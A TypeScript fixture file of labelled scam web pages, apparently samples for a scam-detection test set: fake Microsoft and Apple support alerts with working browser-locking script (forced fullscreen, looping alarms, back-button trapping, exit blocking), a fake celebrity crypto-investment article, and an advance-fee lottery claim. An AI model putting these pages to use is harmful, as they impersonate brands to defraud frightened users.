import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Scams: tech support, giveaways, investment, shops, advance fee, customs fee, refund, job and romance fee pages.
const html = String.raw;

export const entries: Entry[] = [
{
  id: 'b-sc-ts-defender',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://win-defender-alert-support.azurewebsites.net/?phone=18889604217&lang=en',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Windows Defender - Security Warning</title>
<style>html,body{margin:0;height:100%;overflow:hidden;cursor:none;background:#0078d7;font-family:"Segoe UI",Arial}
.bg{position:absolute;inset:0;background:url(/img/desktop.jpg) center/cover;filter:blur(2px)}
.win{position:absolute;left:50%;top:50%;transform:translate(-50%,-50%);width:640px;background:#fff;box-shadow:0 0 40px rgba(0,0,0,.6);cursor:default}
.tt{background:#fff;border-bottom:1px solid #ddd;padding:8px 12px;font-size:13px;display:flex;justify-content:space-between}
.bd{padding:22px 28px}.bd h2{color:#d00;margin:0 0 10px;font-weight:400}.bd p{font-size:14px;color:#333;line-height:1.5}
.ph{font-size:24px;font-weight:bold;color:#0078d7}.ft{background:#f0f0f0;padding:12px 20px;text-align:right}.ft button{background:#0078d7;color:#fff;border:0;padding:8px 26px;margin-left:8px}
.side{position:absolute;right:20px;bottom:20px;width:360px;background:#c00;color:#fff;padding:14px;font-size:14px}</style></head>
<body><div class="bg"></div>
<div class="win"><div class="tt"><span>&#128737; Windows Defender Security Center</span><span>&#10005;</span></div>
<div class="bd"><h2>Access to this PC has been blocked for security reasons</h2>
<p>Your computer has alerted us that it has been infected with a <b>Trojan Spyware</b>. The following data has been compromised:</p>
<p>&gt; Email credentials<br>&gt; Banking passwords<br>&gt; Facebook login<br>&gt; Pictures &amp; documents</p>
<p>Windows Defender scan has found potentially unwanted adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone. Please call us within the next 5 minutes to prevent your computer from being disabled.</p>
<p>Call Windows Support: <span class="ph">+1-888-960-4217</span> (Toll Free)</p></div>
<div class="ft"><button>Deny</button><button>Allow</button></div></div>
<div class="side"><b>Windows Security Alert</b><br>Error # 0x80072ee7 &middot; Do not restart or shut down your computer. Call Microsoft Support: +1-888-960-4217</div>
<audio id="snd" src="/audio/alert-en.mp3" loop autoplay></audio>
<script>
var num = '+1-888-960-4217';
function grab(){ var d=document.documentElement; (d.requestFullscreen||d.webkitRequestFullscreen||function(){}).call(d); try{ document.getElementById('snd').play(); }catch(e){}
  if ('speechSynthesis' in window) { var u = new SpeechSynthesisUtterance('Critical alert from Microsoft. Your computer has been blocked. Error number 0x80072ee7. Please call Windows support immediately at ' + num.split('').join(' ')); speechSynthesis.speak(u); }
  if (navigator.keyboard && navigator.keyboard.lock) navigator.keyboard.lock(); }
document.addEventListener('click', grab); document.addEventListener('keydown', function(e){ grab(); e.preventDefault(); });
window.onbeforeunload = function(){ return 'Your computer is at risk. Are you sure you want to leave?'; };
history.pushState(null, document.title, location.href);
window.addEventListener('popstate', function(){ history.pushState(null, document.title, location.href); });
for (var i = 0; i < 20; i++) history.pushState({ i: i }, '', '#alert' + i);
setTimeout(function(){ alert('** WINDOWS DEFENDER ALERT **\n\nTrojan spyware detected. Call Windows Support: ' + num); }, 3000);
</script></body></html>`,
},
{
  id: 'b-sc-ts-apple',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://ios-security-center.support-apple-care.com/alert/',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no"><title>Apple Security Alert</title>
<style>body{margin:0;background:#f5f5f7;font-family:-apple-system,"SF Pro Text",Helvetica;color:#1d1d1f;text-align:center}.c{max-width:420px;margin:30px auto;background:#fff;border-radius:18px;padding:26px;box-shadow:0 4px 16px rgba(0,0,0,.08)}
.r{color:#ff3b30;font-size:22px;font-weight:600}.bar{height:6px;background:#eee;border-radius:3px;overflow:hidden;margin:14px 0}.bar div{width:87%;height:100%;background:#ff3b30}
.call{display:block;background:#0071e3;color:#fff;text-decoration:none;padding:14px;border-radius:12px;font-size:18px;margin-top:16px}</style></head>
<body><div class="c"><img src="/img/apple-logo.svg" width="40" alt=""><p class="r">&#9888; Your iPhone has been compromised</p>
<p>We detected <b>(6) viruses</b> and a <b>Pegasus spyware</b> tracking tool on your device. Your photos, messages and Apple Pay information are at risk.</p>
<div class="bar"><div></div></div><p style="font-size:13px">Damage: 87% &middot; Your Apple ID will be locked in <b id="t">04:59</b></p>
<p>Do not ignore this alert. Call Apple Support to remove the spyware and secure your Apple ID:</p>
<a class="call" href="tel:+18445721093">&#128222; Call Apple Support: +1 (844) 572-1093</a><p style="font-size:11px;color:#86868b">Apple Security Center &middot; Case ID APL-77812</p></div>
<audio src="/sound/iphone-alarm.m4a" autoplay loop></audio>
<script>
var s=299;setInterval(function(){if(s>0)s--;document.getElementById('t').textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2);},1000);
if(navigator.vibrate)navigator.vibrate([500,200,500,200,500]);
window.addEventListener('beforeunload',function(e){e.preventDefault();e.returnValue='';});
history.pushState(null,'',location.href);onpopstate=function(){history.go(1);};
</script></body></html>`,
},
{
  id: 'b-sc-ts-fr',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://alerte-securite-windows.fr-assistance.com/erreur/?num=0970732195',
  body: html`<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Alerte de sécurité Microsoft Windows</title>
<style>body{margin:0;background:#0a5ad6;font-family:"Segoe UI",Arial;color:#fff;overflow:hidden}.m{max-width:720px;margin:70px auto;background:#fff;color:#222;border:2px solid #c00}
.m .t{background:#c00;color:#fff;padding:10px 16px;font-weight:bold}.m .c{padding:20px 26px;line-height:1.55}.tel{font-size:28px;color:#c00;font-weight:bold;text-align:center;margin:10px 0}</style></head>
<body><div class="m"><div class="t">&#9888; Alerte de sécurité Microsoft Windows</div><div class="c">
<p><b>Accès à cet ordinateur bloqué pour des raisons de sécurité.</b></p>
<p>Votre ordinateur nous a alertés qu'il a été infecté par un logiciel espion de type cheval de Troie. Les données suivantes ont été compromises : identifiants e-mail, mots de passe bancaires, identifiant Facebook, photos et documents.</p>
<p>Veuillez contacter immédiatement le support technique Windows afin qu'un de nos techniciens vous guide par téléphone dans la procédure de suppression. Appelez dans les 5 prochaines minutes pour éviter la désactivation de votre ordinateur.</p>
<div class="tel">Appelez le support Windows : 09 70 73 21 95</div><p style="font-size:12px;text-align:center">(Appel gratuit) &middot; Disponible 24h/24</p></div></div>
<audio id="a" src="/son/alerte-fr.mp3" loop></audio>
<script>
document.body.addEventListener('mousemove', function once(){ document.getElementById('a').play().catch(function(){}); document.documentElement.requestFullscreen && document.documentElement.requestFullscreen().catch(function(){}); document.body.removeEventListener('mousemove', once); });
window.onbeforeunload = function(){ return 'Votre ordinateur est bloqué. Appelez le 09 70 73 21 95.'; };
history.pushState(0, 0, location.href); window.onpopstate = function(){ history.pushState(0, 0, location.href); };
</script></body></html>`,
},
{
  id: 'b-sc-invest-de',
  label: 'scam',
  kind: 'investment-scam',
  url: 'https://nachrichten-finanzen-aktuell.com/exklusiv/moderator-verraet-geheimnis',
  body: html`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Exklusiv: Bekannter TV-Moderator verrät live, wie er 28.000 € im Monat verdient</title>
<style>body{font-family:Georgia,serif;background:#fff;color:#111;margin:0}.top{background:#c00;color:#fff;padding:8px 20px;font-family:Arial;font-weight:bold}.a{max-width:760px;margin:20px auto;padding:0 14px;line-height:1.65;font-size:17px}
.form{background:#f4f4f4;border:2px solid #c00;padding:20px;font-family:Arial}.form input{width:100%;padding:10px;margin:5px 0;box-sizing:border-box}.form button{width:100%;background:#2e9e41;color:#fff;border:0;padding:14px;font-size:18px;font-weight:bold}</style></head>
<body><div class="top">NACHRICHTEN · FINANZEN · AKTUELL</div><div class="a">
<h1>Bekannter TV-Moderator verrät live in der Sendung, wie er 28.000 € im Monat „nebenbei" verdient – Banken sind wütend</h1>
<p><i>Aktualisiert: heute, 09:41</i></p><p>In der gestrigen Abendsendung sorgte Moderator Markus L. für einen Eklat: Auf die Frage nach seinem Zusatzeinkommen verriet er die Plattform <b>„Bitcoin Prime AI"</b>, mit der „jeder Deutsche" in wenigen Wochen finanziell unabhängig werden könne. Die Sendung wurde kurz darauf unterbrochen.</p>
<p>Unsere Redaktion hat es getestet: Mit einer Einzahlung von <b>250 €</b> hatten wir nach 7 Tagen bereits <b>4.871,22 €</b> auf dem Konto. Der Algorithmus handelt vollautomatisch, eine Erfolgsquote von 99,4 % wird garantiert.</p>
<p><b>Achtung:</b> Die Plattform nimmt heute nur noch 37 neue Teilnehmer aus Deutschland auf.</p>
<div class="form"><h3>Jetzt kostenlos registrieren</h3><form action="/api/lead" method="post"><input name="vorname" placeholder="Vorname"><input name="nachname" placeholder="Nachname"><input name="email" placeholder="E-Mail"><input name="telefon" placeholder="+49 Telefonnummer"><button>JETZT STARTEN</button></form>
<p style="font-size:12px">Ein persönlicher Kontomanager ruft Sie nach der Registrierung an und hilft bei der ersten Einzahlung (mind. 250 €).</p></div>
<h3>Kommentare</h3><p><b>Sabine K.:</b> Ich habe gestern angefangen und heute schon 612 € Gewinn! Danke für den Tipp!!</p><p><b>Jürgen W.:</b> Meine erste Auszahlung ist angekommen, 3.200 €. Unglaublich.</p></div></body></html>`,
},
{
  id: 'b-sc-lottery-fee',
  label: 'scam',
  kind: 'advance-fee',
  url: 'https://euromillions-intl-awards.org/claim/EM-2024-88412',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>EuroMillions International Award Claim</title>
<style>body{font-family:"Times New Roman",serif;background:#e9eef7;margin:0}.d{max-width:720px;margin:30px auto;background:#fff;border:1px solid #99a;padding:30px 40px;line-height:1.6}
.d h1{text-align:center;color:#1a3a7a;font-size:24px}.seal{text-align:center;color:#b8860b;font-size:40px}table{width:100%;border-collapse:collapse}td{border:1px solid #ccc;padding:6px 10px}</style></head>
<body><div class="d"><div class="seal">&#9733; &#9733; &#9733;</div><h1>EUROMILLIONS INTERNATIONAL AWARD PROGRAMME<br>WINNING NOTIFICATION</h1>
<p>Dear Lucky Winner,</p><p>We are pleased to inform you that your e-mail address attached to ticket number <b>EM-2024-88412</b> drew the lucky numbers 07-12-19-33-41 ★3 ★9, which consequently won in the 2nd category of our international promotional draw.</p>
<p>You have therefore been approved for a lump sum payout of <b>€850,000.00 (Eight Hundred and Fifty Thousand Euros)</b>.</p>
<table><tr><td>Reference No.</td><td>EM/INT/7731/24</td></tr><tr><td>Batch No.</td><td>24/0188/IPD</td></tr><tr><td>Claims agent</td><td>Dr. Richard Wellington, Madrid office</td></tr></table>
<p>To process your claim, a mandatory <b>insurance and clearance fee of €495</b> must be paid before the funds can be released. This fee cannot be deducted from your winnings due to international regulations. Payment is accepted by bank transfer, Western Union or Bitcoin.</p>
<form action="/claim/submit" method="post"><p>Full name: <input name="n"> Country: <input name="c"><br>Phone: <input name="p"> Occupation: <input name="o"></p><p><button>Submit claim &amp; get payment details</button></p></form>
<p><b>NOTE:</b> Keep your winning information confidential until your claim has been processed to avoid double claiming. Unclaimed prizes are returned after 14 days.</p><p>Yours faithfully,<br>Mrs. Carmen Ortiz<br>Promotions Manager</p></div></body></html>`,
},
];
